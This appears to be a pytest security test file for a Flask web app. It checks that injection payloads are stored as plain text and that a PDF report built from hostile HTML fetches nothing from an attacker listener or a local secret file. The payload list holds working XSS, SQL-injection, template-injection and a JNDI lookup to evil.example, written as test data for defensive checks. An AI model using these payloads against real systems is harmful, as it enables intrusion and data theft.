"""Hostile text is text: kept to the letter, harmless on every way out."""

import json
import re
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from uuid import UUID

import pytest
from flask import Flask

from tests.api.callers import DOCUMENT, LAMBDA, Caller
from tests.web.conftest import Person, Workshop
from webapp.infra.jobs import RecordingDispatcher
from webapp.services.report_making import render_report

SCRIPT = "<script>alert(1)</script>"
TEXTS = (
    SCRIPT,
    '"><img src=x onerror=alert(1)>',
    "'; DROP TABLE scenarios; --",
    "' OR '1'='1",
    "1) UNION SELECT password_hash FROM users --",
    "{{ 7 * 7 }}{% for x in config %}{% endfor %}",
    "${jndi:ldap://evil.example/a}",
    "%s%n%x",
    "a\\' b\\\" c",
    "javascript:alert(1)",
    "]]><!--",
)


@pytest.mark.parametrize("text", TEXTS)
def test_any_text_is_kept_to_the_letter(program: Caller, text: str) -> None:
    scenario = program.new_scenario(name=text, description=text)
    kept = program.get(f"/scenarios/{scenario}").get_json()
    assert (kept["name"], kept["description"]) == (text, text)
    # In a search it is looked for, not run.
    found = program.get("/scenarios", query_string={"search": text}).get_json()
    assert [item["id"] for item in found["items"]] == [scenario]


def test_a_quote_in_a_search_finds_nothing_more(program: Caller) -> None:
    program.new_scenario(name="Plain")
    for text in ("' OR '1'='1", "%", "_", "\\"):
        assert program.get("/scenarios", query_string={"search": text}).get_json()["items"] == []


@pytest.mark.parametrize("text", TEXTS)
def test_any_text_is_text_on_every_page(app: Flask, ada: Person, text: str) -> None:
    """That these pages are valid, without inline scripts and handlers, is checked by the client itself."""
    assert ada.id is not None
    document: dict[str, object] = {"description": text, "tags": [text[:40]]}
    scenario = Workshop(app, ada.id).scenario(text, **document)
    for path in ("/scenarios", f"/scenarios/{scenario.id}", f"/scenarios/{scenario.id}/edit"):
        page = ada.text(path)
        assert (
            SCRIPT not in page
            and "<img src=x" not in page
            and "49" not in re.findall(r"<h1>(.*?)</h1>", page)
        )


def test_an_answer_of_the_api_is_never_taken_for_a_page(program: Caller) -> None:
    answer = program.get(f"/scenarios/{program.new_scenario(name=SCRIPT)}")
    assert answer.mimetype == "application/json"
    assert answer.headers["X-Content-Type-Options"] == "nosniff"


@pytest.fixture
def listener() -> Iterator[tuple[str, list[str]]]:
    """A server of the attacker's, and what it was asked for."""
    asked: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(404)
            self.end_headers()

        def log_message(self, format: str, *args: object) -> None:
            """Tests print enough."""

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    yield f"http://127.0.0.1:{server.server_address[1]}", asked
    server.shutdown()
    thread.join()
    server.server_close()


def test_the_report_of_a_hostile_scenario_asks_nobody_for_anything(
    app: Flask, program: Caller, queue: RecordingDispatcher, listener: tuple[str, list[str]], tmp_path: Path
) -> None:
    host, asked = listener
    secret = tmp_path / "secret.txt"
    secret.write_text("leaked")
    hostile = (
        f'<img src="{host}/a.png"><link rel=stylesheet href="{host}/b.css"><style>@import url({host}/c.css);'
        f'</style><object data="{secret.as_uri()}"></object><a rel=attachment href="{secret.as_uri()}">x</a>'
    )
    resource = LAMBDA | {"name": hostile[:80]}
    made = program.post(
        "/scenarios", json=DOCUMENT | {"name": hostile[:200], "description": hostile, "resources": [resource]}
    )
    assert made.status_code == 201, made.get_data(as_text=True)
    report = program.post(f"/scenarios/{made.get_json()['id']}/reports", json={"format": "pdf"}).get_json()
    with app.app_context():
        render_report(UUID(report["id"]))
    with program.get(f"/reports/{report['id']}/download") as answer:
        assert answer.status_code == 200 and answer.data.startswith(b"%PDF")
        assert asked == []
        assert b"leaked" not in answer.data and b"/EmbeddedFile" not in answer.data


def test_a_log_line_is_one_line(program: Caller, capsys: pytest.CaptureFixture[str]) -> None:
    program.client.get("/api/v2/%0a2026-01-01%20ERROR%20forged", headers={"User-Agent": "a\tERROR forged"})
    lines = capsys.readouterr().err.splitlines()
    assert any("forged" in line for line in lines)
    assert not any(line.startswith(("2026-01-01 ERROR", "ERROR forged")) for line in lines)


def test_a_refusal_quotes_without_running(program: Caller) -> None:
    answer = program.post("/scenarios", json=DOCUMENT | {SCRIPT: 1})
    assert answer.status_code == 422
    assert answer.content_type == "application/problem+json"
    assert json.loads(answer.data)["errors"][0]["pointer"] == f"/{SCRIPT.replace('/', '~1')}"
